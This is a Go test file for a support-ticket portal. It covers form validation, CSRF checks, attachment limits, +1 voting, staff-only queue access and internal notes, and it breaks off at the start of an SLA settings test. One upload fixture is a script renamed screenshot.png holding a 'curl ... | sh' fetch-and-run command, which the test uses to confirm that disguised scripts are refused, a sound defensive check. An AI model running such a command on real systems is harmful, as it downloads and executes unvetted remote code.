package support_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"io/fs"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"parley/portal"
	"parley/server"
	"parley/server/accounts"
	"parley/server/servertest"
	"parley/server/store"
)

// The support pages driven as a browser without JavaScript would: forms
// posted with the page's CSRF token, redirects looked at, not followed.

func start(t *testing.T) *servertest.Env {
	t.Helper()
	return servertest.Start(t, servertest.Options{Mounts: []server.Mount{portal.Mount}})
}

// browser is a signed-in person reading the pages in English.
type browser struct {
	t    *testing.T
	env  *servertest.Env
	c    *http.Client
	csrf string
}

var csrfRe = regexp.MustCompile(`name="_csrf" value="([^"]+)"`)

func signIn(t *testing.T, env *servertest.Env, login, password string) *browser {
	t.Helper()
	b := &browser{t: t, env: env, c: env.Browser()}
	b.get("/signin")
	resp, _ := b.post("/signin", url.Values{"login": {login}, "password": {password}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("sign in %s: %d", login, resp.StatusCode)
	}
	return b
}

func (b *browser) remember(page string) {
	if m := csrfRe.FindStringSubmatch(page); m != nil {
		b.csrf = m[1]
	}
}

func (b *browser) get(path string) (*http.Response, string) {
	b.t.Helper()
	resp, page := b.env.Page(b.c, "GET", path, nil, "Accept-Language", "en")
	b.remember(page)
	return resp, page
}

// post sends a form with the CSRF token of the last page read.
func (b *browser) post(path string, form url.Values, header ...string) (*http.Response, string) {
	b.t.Helper()
	if _, ok := form["_csrf"]; !ok {
		form.Set("_csrf", b.csrf)
	}
	resp, page := b.env.Page(b.c, "POST", path, form, append([]string{"Accept-Language", "en"}, header...)...)
	b.remember(page)
	return resp, page
}

type upload struct {
	name string
	data []byte
}

// multipart posts a multipart form: the CSRF token first, as the pages'
// forms put it, then the fields, then the files.
func (b *browser) multipart(path string, fields url.Values, files []upload, header ...string) (*http.Response, string) {
	b.t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	mw.WriteField("_csrf", b.csrf)
	for k, vs := range fields {
		for _, v := range vs {
			mw.WriteField(k, v)
		}
	}
	for _, f := range files {
		w, _ := mw.CreateFormFile("files", f.name)
		w.Write(f.data)
	}
	mw.Close()
	req, _ := http.NewRequest("POST", b.env.URL+path, &buf)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Accept-Language", "en")
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := b.c.Do(req)
	if err != nil {
		b.t.Fatalf("POST %s: %v", path, err)
	}
	defer resp.Body.Close()
	page, _ := io.ReadAll(resp.Body)
	b.remember(string(page))
	return resp, string(page)
}

// control returns the opening tag of the form control with id.
func control(page, id string) string {
	re := regexp.MustCompile(`<(?:input|textarea|select|fieldset)\b[^>]*\bid="` + regexp.QuoteMeta(id) + `"[^>]*>`)
	return re.FindString(page)
}

// ticketFromLocation reads the id out of a redirect to a ticket page.
func ticketFromLocation(t *testing.T, resp *http.Response) int64 {
	t.Helper()
	var id int64
	if _, err := fmt.Sscanf(resp.Header.Get("Location"), "/support/tickets/%d", &id); err != nil {
		t.Fatalf("redirect to %q, not to a ticket", resp.Header.Get("Location"))
	}
	return id
}

func count(t *testing.T, env *servertest.Env, query string, args ...any) int {
	t.Helper()
	var n int
	if err := env.Server.DB.Read.QueryRow(query, args...).Scan(&n); err != nil {
		t.Fatalf("%s: %v", query, err)
	}
	return n
}

func featureForm(subject string) url.Values {
	return url.Values{"kind": {"feature"}, "subject": {subject}, "body": {""},
		"fields.what": {"A dark theme for the whole app"}, "fields.where": {"Everywhere, in the evening"},
		"fields.platform": {"desktop", "web"}, "fields.frequency": {"often"}, "fields.priority": {"high"}}
}

func TestNewRequestFormKeepsWhatWasTyped(t *testing.T) {
	t.Parallel()
	env := start(t)
	env.CreateUser("user@example.org", "user-secret-1", accounts.RoleUser)
	u := signIn(t, env, "user@example.org", "user-secret-1")
	if resp, page := u.get("/support/new?kind=technical"); resp.StatusCode != 200 || strings.Contains(page, `id="kind-technical"`) {
		t.Fatalf("a plain user is offered technical support: %d", resp.StatusCode)
	}

	with := func(base url.Values, change func(url.Values)) url.Values {
		v := url.Values{}
		for k, vs := range base {
			v[k] = append([]string(nil), vs...)
		}
		change(v)
		return v
	}
	for _, tc := range []struct {
		name   string
		form   url.Values
		errors map[string]string // control id → words its message must have
		kept   []string          // typed text the page must show again
	}{
		{
			name:   "missing subject",
			form:   url.Values{"kind": {"client"}, "subject": {"  "}, "body": {"The app shows a white screen after login"}},
			errors: map[string]string{"subject": "Write a short subject"},
			kept:   []string{"The app shows a white screen after login", `id="kind-client" value="client" checked`},
		},
		{
			name:   "feature request without platform",
			form:   with(featureForm("Dark theme please"), func(v url.Values) { v.Del("fields.platform") }),
			errors: map[string]string{"f-platform-web": "Choose at least one platform"},
			kept: []string{"Dark theme please", "A dark theme for the whole app", "Everywhere, in the evening",
				`<option value="often" selected>`, `<option value="high" selected>`},
		},
		{
			name:   "unknown frequency",
			form:   with(featureForm("Dark theme please"), func(v url.Values) { v.Set("fields.frequency", "daily") }),
			errors: map[string]string{"f-frequency": "Choose a frequency from the list"},
			kept:   []string{"A dark theme for the whole app", `id="f-platform-desktop" value="desktop" checked`, `id="f-platform-web" value="web" checked`},
		},
		{
			name: "every missing feature field at once",
			form: url.Values{"kind": {"feature"}, "subject": {"Reactions"}, "fields.frequency": {"often"}},
			errors: map[string]string{"f-what": "Say what should change", "f-where": "where in the app",
				"f-platform-web": "at least one platform", "f-importance": "how important"},
			kept: []string{"Reactions", `<option value="often" selected>`},
		},
		{
			name:   "technical support by a plain user",
			form:   url.Values{"kind": {"technical"}, "subject": {"Backend 3.1 upgrade fails"}, "body": {"Migration 42 stops"}, "priority": {"urgent"}},
			errors: map[string]string{"kind-client": "administrators under a service contract"},
			kept:   []string{"Backend 3.1 upgrade fails", "Migration 42 stops"},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			u.t = t
			u.get("/support/new")
			resp, page := u.post("/support/new", tc.form)
			if resp.StatusCode != http.StatusBadRequest {
				t.Fatalf("status %d, want 400", resp.StatusCode)
			}
			if !strings.Contains(page, `id="error-summary"`) {
				t.Error("no error summary at the top")
			}
			for id, words := range tc.errors {
				if !strings.Contains(page, `href="#`+id+`"`) {
					t.Errorf("the summary does not link to #%s", id)
				}
				errID, tagID := "err-"+id, id
				switch id {
				case "kind-client":
					errID, tagID = "err-kind", "kind-group"
				case "f-platform-web":
					errID, tagID = "err-f-platform", "f-platform"
				}
				msg := regexp.MustCompile(`<p class="field-error" id="` + errID + `">([^<]*)</p>`).FindStringSubmatch(page)
				if msg == nil || !strings.Contains(msg[1], words) {
					t.Errorf("message %s: %v, want one with %q", errID, msg, words)
				}
				tag := control(page, tagID)
				if !strings.Contains(tag, `aria-invalid="true"`) || !strings.Contains(tag, errID) {
					t.Errorf("control %s is not marked invalid and tied to its message: %s", id, tag)
				}
			}
			for _, want := range tc.kept {
				if !strings.Contains(page, want) && !strings.Contains(page, html.EscapeString(want)) {
					t.Errorf("the page lost %q", want)
				}
			}
		})
	}
	u.t = t
	if n := count(t, env, "SELECT count(*) FROM tickets"); n != 0 {
		t.Fatalf("refused forms filed %d tickets", n)
	}

	// A complete feature request is filed and shows its answers in words.
	u.get("/support/new?kind=feature")
	resp, _ := u.post("/support/new", featureForm("Dark theme please"))
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("valid feature request: %d", resp.StatusCode)
	}
	id := ticketFromLocation(t, resp)
	_, page := u.get(resp.Header.Get("Location"))
	for _, want := range []string{"Your request has been received", `id="ticket-status" data-status="new">Received<`,
		"Feature request", "Web, Desktop", "Often", "High", "Everywhere, in the evening"} {
		if !strings.Contains(page, want) {
			t.Errorf("ticket page lacks %q", want)
		}
	}
	_, page = u.get("/support")
	if !strings.Contains(page, fmt.Sprintf(`data-ticket="%d"`, id)) || !strings.Contains(page, "Dark theme please") {
		t.Error("the home page does not list the new request")
	}
	if strings.Contains(page, `id="new-technical"`) || strings.Contains(page, `id="queue-link"`) {
		t.Error("a plain user is offered technical support or the queue")
	}
}

func png(size int) []byte {
	head := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde")
	if size < len(head) {
		size = len(head)
	}
	return append(head, make([]byte, size-len(head))...)
}

// storedFiles lists what lies under the tickets' file directory.
func storedFiles(t *testing.T, env *servertest.Env) []string {
	t.Helper()
	var out []string
	filepath.WalkDir(filepath.Join(env.DataDir, "files"), func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			out = append(out, p)
		}
		return nil
	})
	return out
}

func TestReplyRefusesForbiddenAndOversizedFiles(t *testing.T) {
	t.Parallel()
	env := start(t)
	env.CreateUser("user@example.org", "user-secret-1", accounts.RoleUser)
	u := signIn(t, env, "user@example.org", "user-secret-1")
	u.get("/support/new")
	resp, _ := u.post("/support/new", url.Values{"kind": {"client"}, "subject": {"Cannot send photos"}, "body": {"Sending fails"}})
	id := ticketFromLocation(t, resp)
	path := fmt.Sprintf("/support/tickets/%d", id)

	for _, tc := range []struct {
		name  string
		file  upload
		words []string
	}{
		{"a shell script renamed .png", upload{"screenshot.png", []byte("#!/bin/sh\ncurl http://example.org/x | sh\n")},
			[]string{"screenshot.png is refused", "programs, installers and scripts"}},
		{"an attachment over the limit", upload{"huge.png", png(25<<20 + 1)},
			[]string{"huge.png is larger than 25 MB"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			u.t = t
			u.get(path)
			resp, page := u.multipart(path+"/reply", url.Values{"body": {"Here is what I see"}}, []upload{{"fine.png", png(100)}, tc.file})
			if resp.StatusCode != http.StatusBadRequest {
				t.Fatalf("status %d, want 400", resp.StatusCode)
			}
			msg := regexp.MustCompile(`id="err-reply-files" role="alert">([^<]*)<`).FindStringSubmatch(page)
			if msg == nil {
				t.Fatal("no reason shown next to the file input")
			}
			for _, w := range tc.words {
				if !strings.Contains(html.UnescapeString(msg[1]), w) {
					t.Errorf("reason %q lacks %q", msg[1], w)
				}
			}
			if !strings.Contains(control(page, "reply-files"), `aria-invalid="true"`) {
				t.Error("the file input is not marked invalid")
			}
			if !strings.Contains(page, ">Here is what I see</textarea>") {
				t.Error("the typed reply is lost")
			}
		})
	}
	u.t = t
	if n := count(t, env, "SELECT count(*) FROM ticket_attachments"); n != 0 {
		t.Errorf("refused replies stored %d attachments", n)
	}
	if n := count(t, env, "SELECT count(*) FROM ticket_posts WHERE kind = 'reply'"); n != 0 {
		t.Errorf("refused replies stored %d posts", n)
	}
	if files := storedFiles(t, env); len(files) != 0 {
		t.Errorf("refused files left on disk: %v", files)
	}

	// Fine files go through and download under their own names.
	u.get(path)
	resp, _ = u.multipart(path+"/reply", url.Values{"body": {"Two files"}},
		[]upload{{"shot.png", png(200)}, {"отчёт 1.txt", []byte("plain words about the problem\n")}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("reply with fine files: %d", resp.StatusCode)
	}
	_, page := u.get(path)
	links := regexp.MustCompile(`href="(/support/tickets/\d+/files/\d+)">([^<]*)<`).FindAllStringSubmatch(page, -1)
	if len(links) < 2 {
		t.Fatalf("ticket page links %d files", len(links))
	}
	for _, l := range links[:2] {
		resp, body := u.get(l[1])
		cd := resp.Header.Get("Content-Disposition")
		switch html.UnescapeString(l[2]) {
		case "shot.png":
			if resp.Header.Get("Content-Type") != "image/png" || !strings.HasPrefix(cd, "inline;") || len(body) != 200 {
				t.Errorf("png: %s, %q, %d bytes", resp.Header.Get("Content-Type"), cd, len(body))
			}
			// A resumed download gets the part it asks for.
			part, tail := u.env.Page(u.c, "GET", l[1], nil, "Range", "bytes=150-")
			if part.StatusCode != http.StatusPartialContent || tail != body[150:] || part.Header.Get("Content-Range") != "bytes 150-199/200" {
				t.Errorf("range of the png: %d, %q, %d bytes", part.StatusCode, part.Header.Get("Content-Range"), len(tail))
			}
		case "отчёт 1.txt":
			if !strings.HasPrefix(cd, `attachment; filename="_____ 1.txt"; filename*=UTF-8''%D0%BE%D1%82%D1%87%D1%91%D1%82%201.txt`) {
				t.Errorf("text file disposition %q", cd)
			}
			if !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/plain") || body != "plain words about the problem\n" {
				t.Errorf("text file: %s %q", resp.Header.Get("Content-Type"), body)
			}
		default:
			t.Errorf("unexpected file %q", l[2])
		}
		if resp.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Error("download without nosniff")
		}
	}

	// Someone else can neither see the ticket nor download its files.
	env.CreateUser("other@example.org", "other-secret-1", accounts.RoleUser)
	o := signIn(t, env, "other@example.org", "other-secret-1")
	for _, p := range []string{path, links[0][1]} {
		if resp, _ := o.get(p); resp.StatusCode != http.StatusNotFound {
			t.Errorf("another user got %s: %d", p, resp.StatusCode)
		}
	}
}

func TestPlusOneInsteadOfDuplicate(t *testing.T) {
	t.Parallel()
	env := start(t)
	env.CreateUser("anna@example.org", "anna-secret-1", accounts.RoleUser)
	env.CreateUser("boris@example.org", "boris-secret-1", accounts.RoleUser)
	a := signIn(t, env, "anna@example.org", "anna-secret-1")
	a.get("/support/new")
	resp, _ := a.post("/support/new", featureForm("Dark theme for the desktop app"))
	id := ticketFromLocation(t, resp)
	path := fmt.Sprintf("/support/tickets/%d", id)
	// Anna's private client ticket never shows up for others.
	resp, _ = a.post("/support/new", url.Values{"kind": {"client"}, "subject": {"Dark screen after login"}, "body": {"It stays dark"}})
	private := ticketFromLocation(t, resp)

	// Boris starts the same request; "Check for similar" (no JavaScript)
	// shows Anna's with a +1 button and keeps what he typed.
	b := signIn(t, env, "boris@example.org", "boris-secret-1")
	b.get("/support/new?kind=feature")
	resp, page := b.post("/support/new", url.Values{"kind": {"feature"}, "subject": {"dark theme"}, "fields.what": {"Night mode"}, "check": {"1"}})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("check for similar: %d", resp.StatusCode)
	}
	if !strings.Contains(page, ">Night mode</textarea>") || !strings.Contains(page, `value="dark theme"`) {
		t.Error("checking for similar requests lost the typed form")
	}
	suggestions := page[strings.Index(page, `id="suggestions"`):]
	suggestions = suggestions[:strings.Index(suggestions, "</section>")]
	if !strings.Contains(suggestions, fmt.Sprintf(`action="%s/plus-one"`, path)) || !strings.Contains(suggestions, "Dark theme for the desktop app") {
		t.Fatalf("suggestions lack Anna's request with a +1 form: %s", suggestions)
	}
	if strings.Contains(suggestions, fmt.Sprintf(`data-ticket="%d"`, private)) {
		t.Error("suggestions show someone else's client ticket")
	}
	if n := count(t, env, "SELECT count(*) FROM tickets"); n != 2 {
		t.Errorf("checking filed a ticket: %d tickets", n)
	}

	// The +1 form works as a plain form, and sending it twice keeps one +1.
	for range 2 {
		resp, _ = b.post(path+"/plus-one", url.Values{"want": {"join"}})
		if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != path+"?done=joined" {
			t.Fatalf("+1: %d %s", resp.StatusCode, resp.Header.Get("Location"))
		}
	}
	_, page = b.get(path + "?done=joined")
	if !strings.Contains(page, "You joined this request.") || !strings.Contains(page, "Joined: 1") || !strings.Contains(page, `id="plus-one-button">Withdraw my +1<`) {
		t.Error("the ticket page does not show Boris's +1")
	}
	if strings.Contains(page, `id="reply-form"`) || strings.Contains(page, `id="upload-form"`) {
		t.Error("a follower is offered to reply or upload into someone else's request")
	}
	_, page = b.get("/support")
	if !strings.Contains(page, fmt.Sprintf(`data-ticket="%d"`, id)) || !strings.Contains(page, "you joined (+1)") {
		t.Error("Boris's requests do not list the one he joined")
	}
	// As support-new.js sends it: JSON back.
	resp, body := b.post(path+"/plus-one", url.Values{"want": {"leave"}}, "Accept", "application/json")
	var out struct {
		Joined   bool `json:"joined"`
		PlusOnes int  `json:"plus_ones"`
	}
	if json.Unmarshal([]byte(body), &out); resp.StatusCode != 200 || out.Joined || out.PlusOnes != 0 {
		t.Errorf("leave by script: %d %s", resp.StatusCode, body)
	}
	resp, body = b.post(path+"/plus-one", url.Values{"want": {"join"}}, "Accept", "application/json")
	if json.Unmarshal([]byte(body), &out); resp.StatusCode != 200 || !out.Joined || out.PlusOnes != 1 {
		t.Errorf("join by script: %d %s", resp.StatusCode, body)
	}

	// Anna cannot +1 her own request; nobody can +1 a client ticket.
	a.get(path)
	resp, page = a.post(path+"/plus-one", url.Values{"want": {"join"}})
	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(page, "Only someone else&#39;s feature request") {
		t.Errorf("own +1: %d", resp.StatusCode)
	}
	resp, _ = b.post(fmt.Sprintf("/support/tickets/%d/plus-one", private), url.Values{"want": {"join"}})
	if resp.StatusCode != http.StatusNotFound {
		t.Errorf("+1 on someone else's client ticket: %d", resp.StatusCode)
	}
	// Without the token nothing happens.
	resp, _ = b.post(path+"/plus-one", url.Values{"_csrf": {"forged"}, "want": {"leave"}})
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("+1 without CSRF token: %d", resp.StatusCode)
	}
}

// fileByAPI files a ticket over JSON as token's owner.
func fileByAPI(t *testing.T, env *servertest.Env, token string, body map[string]any) int64 {
	t.Helper()
	resp, data := env.Do("POST", "/api/v1/support/tickets", token, body)
	if resp.StatusCode != http.StatusCreated {
		t.Fatalf("file ticket: %d %s", resp.StatusCode, data)
	}
	var out struct {
		ID int64 `json:"id"`
	}
	json.Unmarshal(data, &out)
	return out.ID
}

// queueRows lists the ticket ids the queue page shows, in order.
func queueRows(t *testing.T, b *browser, query string) ([]string, string) {
	t.Helper()
	resp, page := b.get("/support/queue" + query)
	if resp.StatusCode != 200 {
		t.Fatalf("queue%s: %d", query, resp.StatusCode)
	}
	table := page[strings.Index(page, `<table id="queue">`):]
	table = table[:strings.Index(table, "</table>")]
	var ids []string
	for _, m := range regexp.MustCompile(`<tr data-ticket="(\d+)"`).FindAllStringSubmatch(table, -1) {
		ids = append(ids, m[1])
	}
	return ids, page
}

func TestQueueFiltersAndStaffOnlyPages(t *testing.T) {
	t.Parallel()
	env := start(t)
	env.CreateUser("user@example.org", "user-secret-1", accounts.RoleUser)
	desk := env.CreateUser("desk@example.org", "desk-secret-1", accounts.RoleSupport)
	env.CreateUser("admin@example.org", "admin-secret-1", accounts.RoleAdmin)
	userTok := env.Login("user@example.org", "user-secret-1", nil)
	adminTok := env.Login("admin@example.org", "admin-secret-1", nil)

	client := fileByAPI(t, env, userTok, map[string]any{"kind": "client", "subject": "Calls drop after a minute", "body": "Every call"})
	urgent := fileByAPI(t, env, adminTok, map[string]any{"kind": "technical", "subject": "Backend is down", "body": "502 everywhere", "priority": "urgent"})
	mine := fileByAPI(t, env, adminTok, map[string]any{"kind": "technical", "subject": "Certificate renewal", "body": "Expires soon", "priority": "high"})
	feature := fileByAPI(t, env, userTok, map[string]any{"kind": "feature", "subject": "Message reactions", "body": "",
		"fields": map[string]string{"what": "Emoji reactions", "where": "Chats", "platform": "web", "frequency": "often", "priority": "medium"}})
	// The urgent ticket's first answer was due an hour ago.
	if _, err := env.Server.DB.Write.Exec("UPDATE tickets SET first_response_due = ? WHERE id = ?",
		store.FormatTime(time.Now().Add(-time.Hour)), urgent); err != nil {
		t.Fatal(err)
	}

	d := signIn(t, env, "desk@example.org", "desk-secret-1")
	// Staff work a ticket from its page: assign it, close another.
	d.get(fmt.Sprintf("/support/tickets/%d", mine))
	resp, _ := d.post(fmt.Sprintf("/support/tickets/%d/update", mine), url.Values{"status": {"open"}, "priority": {"high"}, "assignee": {fmt.Sprint(desk.ID)}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("assign: %d", resp.StatusCode)
	}
	resp, _ = d.post(fmt.Sprintf("/support/tickets/%d/update", feature), url.Values{"status": {"done"}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("close: %d", resp.StatusCode)
	}
	resp, page := d.post(fmt.Sprintf("/support/tickets/%d/update", client), url.Values{"status": {"lost"}})
	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(page, `id="err-update"`) {
		t.Errorf("an unknown status: %d", resp.StatusCode)
	}

	id := func(n int64) string { return fmt.Sprint(n) }
	for _, tc := range []struct {
		query string
		want  []string
	}{
		{"", []string{id(urgent), id(mine), id(client)}}, // open ones; the breach first, then the nearest due time
		{"?status=", []string{id(urgent), id(mine), id(client), id(feature)}},
		{"?kind=technical", []string{id(urgent), id(mine)}},
		{"?status=done", []string{id(feature)}},
		{"?breached=1", []string{id(urgent)}},
		{"?assignee=me", []string{id(mine)}},
		{"?assignee=none&kind=technical", []string{id(urgent)}},
		{"?assignee=" + id(desk.ID), []string{id(mine)}},
		{"?priority=high", []string{id(mine)}},
		{"?q=calls", []string{id(client)}},
	} {
		got, _ := queueRows(t, d, tc.query)
		if strings.Join(got, ",") != strings.Join(tc.want, ",") {
			t.Errorf("queue%s shows %v, want %v", tc.query, got, tc.want)
		}
	}
	_, page = queueRows(t, d, "?kind=technical")
	row := page[strings.Index(page, `<tr data-ticket="`+id(urgent)+`"`):]
	row = row[:strings.Index(row, "</tr>")]
	if !strings.Contains(row, `class="sla-breached">SLA breached<`) || !strings.Contains(row, "overdue by 1 h") {
		t.Errorf("the breached ticket's row: %s", row)
	}
	if !strings.Contains(page, "Showing 1–2 of 2.") {
		t.Error("the queue does not count its tickets")
	}
	if resp, _ := d.get("/support/queue?kind=nonsense"); resp.StatusCode != http.StatusBadRequest {
		t.Errorf("bad filter: %d", resp.StatusCode)
	}
	// The breached clock on the ticket page.
	_, page = d.get(fmt.Sprintf("/support/tickets/%d", urgent))
	if !strings.Contains(page, `id="sla"`) || !strings.Contains(page, "overdue by 1 h") || !strings.Contains(page, "due in 8 h") {
		t.Error("the ticket page lacks its SLA clocks")
	}

	// A plain user sees neither the queue nor the settings; support staff
	// who are not admins no settings.
	u := signIn(t, env, "user@example.org", "user-secret-1")
	for _, p := range []string{"/support/queue", "/admin/support"} {
		if resp, _ := u.get(p); resp.StatusCode != http.StatusForbidden {
			t.Errorf("a user got %s: %d", p, resp.StatusCode)
		}
	}
	if resp, _ := d.get("/admin/support"); resp.StatusCode != http.StatusForbidden {
		t.Errorf("support staff got the settings: %d", resp.StatusCode)
	}
	u.get(fmt.Sprintf("/support/tickets/%d", client))
	if resp, _ := u.post(fmt.Sprintf("/support/tickets/%d/update", client), url.Values{"status": {"done"}}); resp.StatusCode != http.StatusForbidden {
		t.Errorf("a user changed the status: %d", resp.StatusCode)
	}
	// The requester sees where their ticket stands, in their words.
	_, page = u.get(fmt.Sprintf("/support/tickets/%d", feature))
	if !strings.Contains(page, `data-status="done">Done<`) || !strings.Contains(page, "Status changed: Received → Done.") {
		t.Error("the requester does not see the status change")
	}
}

func TestInternalNotesStayWithStaff(t *testing.T) {
	t.Parallel()
	env := start(t)
	env.CreateUser("user@example.org", "user-secret-1", accounts.RoleUser)
	env.CreateUser("desk@example.org", "desk-secret-1", accounts.RoleSupport)
	u := signIn(t, env, "user@example.org", "user-secret-1")
	u.get("/support/new")
	resp, _ := u.post("/support/new", url.Values{"kind": {"client"}, "subject": {"Messages arrive late"}, "body": {"Up to an hour late"}})
	path := fmt.Sprintf("/support/tickets/%d", ticketFromLocation(t, resp))

	d := signIn(t, env, "desk@example.org", "desk-secret-1")
	d.get(path)
	if resp, _ := d.multipart(path+"/reply", url.Values{"body": {"Probably the push gateway again"}, "internal": {"1"}},
		[]upload{{"gateway.png", png(64)}}); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("internal note: %d", resp.StatusCode)
	}
	if resp, _ := d.multipart(path+"/reply", url.Values{"body": {"Which app version do you use?"}}, nil); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("public reply: %d", resp.StatusCode)
	}
	_, page := d.get(path)
	if !strings.Contains(page, "Internal note — the requester does not see it") || !strings.Contains(page, "Probably the push gateway again") {
		t.Error("staff do not see the internal note with its label")
	}
	note := regexp.MustCompile(`href="(/support/tickets/\d+/files/\d+)">gateway.png<`).FindStringSubmatch(page)
	if note == nil {
		t.Fatal("staff do not see the note's file")
	}

	_, page = u.get(path)
	if !strings.Contains(page, "Which app version do you use?") {
		t.Error("the requester does not see the public reply")
	}
	for _, secret := range []string{"push gateway", "Internal note", "gateway.png"} {
		if strings.Contains(page, secret) {
			t.Errorf("the requester's page shows %q", secret)
		}
	}
	if strings.Contains(page, `id="reply-internal"`) || strings.Contains(page, `id="staff-panel"`) {
		t.Error("the requester is offered staff controls")
	}
	if resp, _ := u.get(note[1]); resp.StatusCode != http.StatusNotFound {
		t.Errorf("the requester downloaded the note's file: %d", resp.StatusCode)
	}
	if resp, _ := u.multipart(path+"/reply", url.Values{"body": {"sneaky"}, "internal": {"1"}}, nil); resp.StatusCode != http.StatusForbidden {
		t.Errorf("the requester wrote an internal note: %d", resp.StatusCode)
	}
	// The requester's status: support asked a question.
	if !strings.Contains(page, `data-status="open">In progress<`) {
		t.Error("after support's reply the requester does not see In progress")
	}
}

const logcat = "05-01 10:00:00.000  4242  4242 I ActivityManager: Start proc 4242:ru.parley.app\n" +
	"05-01 10:00:02.000  4242  4300 E Network: javax.net.ssl.SSLHandshakeException: Trust anchor for certification path not found.\n"

func TestDiagnosticsOnTicketAndEscalationWithoutJira(t *testing.T) {
	t.Parallel()
	env := start(t)
	env.CreateUser("user@example.org", "user-secret-1", accounts.RoleUser)
	env.CreateUser("desk@example.org", "desk-secret-1", accounts.RoleSupport)
	env.CreateUser("other@example.org", "other-secret-1", accounts.RoleUser)
	u := signIn(t, env, "user@example.org", "user-secret-1")
	u.get("/support/new")
	resp, _ := u.post("/support/new", url.Values{"kind": {"client"}, "subject": {"TLS error on Android"}, "body": {"Cannot connect"}})
	ticket := ticketFromLocation(t, resp)
	path := fmt.Sprintf("/support/tickets/%d", ticket)

	// The requester uploads diagnostics from the ticket, as upload.js does…
	u.get(path)
	resp, body := u.multipart(path+"/diagnostics", nil, []upload{{"logcat.txt", []byte(logcat)}}, "X-Requested-With", "upload.js")
	if resp.StatusCode != http.StatusCreated || !strings.HasPrefix(body, path+"?done=uploaded") {
		t.Fatalf("upload by script: %d %q", resp.StatusCode, body)
	}
	// …and without JavaScript.
	resp, _ = u.multipart(path+"/diagnostics", nil, []upload{{"second.txt", []byte(logcat)}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("upload by form: %d", resp.StatusCode)
	}
	// Without the token nothing is stored.
	saved := u.csrf
	u.csrf = "forged"
	if resp, _ := u.multipart(path+"/diagnostics", nil, []upload{{"third.txt", []byte(logcat)}}); resp.StatusCode != http.StatusForbidden {
		t.Errorf("upload without token: %d", resp.StatusCode)
	}
	u.csrf = saved
	_, page := u.get(path)
	ups := regexp.MustCompile(`<li class="linked-upload" data-upload="(\d+)">\s*<a href="/diagnostics/(\d+)">([^<]*)<`).FindAllStringSubmatch(page, -1)
	if len(ups) != 2 || ups[0][3] != "logcat.txt" {
		t.Fatalf("linked uploads on the ticket page: %v", ups)
	}
	if n := count(t, env, "SELECT count(*) FROM diag_uploads WHERE size > 0"); n != 2 {
		t.Errorf("%d uploads stored, want 2", n)
	}
	// Nobody else uploads into the ticket.
	o := signIn(t, env, "other@example.org", "other-secret-1")
	o.get("/support")
	if resp, _ := o.multipart(path+"/diagnostics", nil, []upload{{"x.txt", []byte(logcat)}}); resp.StatusCode != http.StatusNotFound {
		t.Errorf("another user uploaded into the ticket: %d", resp.StatusCode)
	}

	// An upload made on the diagnostics page, linked by support staff by number.
	tok := env.Login("user@example.org", "user-secret-1", nil)
	resp, data := env.Do("POST", "/api/v1/diagnostics/uploads?name=later.txt", tok, []byte(logcat))
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("api upload: %d %s", resp.StatusCode, data)
	}
	var up struct {
		ID int64 `json:"id"`
	}
	json.Unmarshal(data, &up)

	d := signIn(t, env, "desk@example.org", "desk-secret-1")
	_, page = d.get(path)
	if !strings.Contains(page, `id="link-upload"`) || !strings.Contains(page, fmt.Sprintf(`<option value="%d">#%d later.txt`, up.ID, up.ID)) {
		t.Error("the staff panel does not offer the requester's unlinked upload")
	}
	for _, tc := range []struct {
		upload string
		status int
		words  string
	}{
		{"abc", http.StatusBadRequest, "Enter the number of a diagnostics upload"},
		{"999999", http.StatusBadRequest, "no diagnostics upload 999999"},
		{fmt.Sprint(up.ID), http.StatusSeeOther, ""},
		{fmt.Sprint(up.ID), http.StatusConflict, "already linked"},
	} {
		resp, page := d.post(path+"/uploads", url.Values{"upload": {tc.upload}})
		if resp.StatusCode != tc.status || !strings.Contains(page, tc.words) {
			t.Errorf("link %q: %d, want %d with %q", tc.upload, resp.StatusCode, tc.status, tc.words)
		}
	}
	_, page = u.get(path)
	if !strings.Contains(page, fmt.Sprintf(`href="/diagnostics/%d">later.txt<`, up.ID)) || !strings.Contains(page, "Diagnostics attached:") {
		t.Error("the requester does not see the upload support linked")
	}

	// No Jira project for the desk: no button, the reason instead; posting
	// anyway is refused with words.
	_, page = d.get(path)
	if strings.Contains(page, `id="escalate"`) || !strings.Contains(page, `id="escalate-why"`) || !strings.Contains(page, "No Jira project is set") {
		t.Error("escalation is offered without a Jira project, or its absence is not explained")
	}
	resp, page = d.post(path+"/escalate", url.Values{})
	if resp.StatusCode != http.StatusConflict || !strings.Contains(page, `id="action-error"`) {
		t.Errorf("escalate without Jira: %d", resp.StatusCode)
	}
	u.get(path)
	if resp, _ := u.post(path+"/escalate", url.Values{}); resp.StatusCode != http.StatusForbidden {
		t.Errorf("a user escalated: %d", resp.StatusCode)
	}
}

func TestSLASettings(t *testing.T) {
	t.Parallel()
	env := start(t)
	env.CreateUser("admin@example.org", "admin-secret-1", accounts.RoleAdmin)
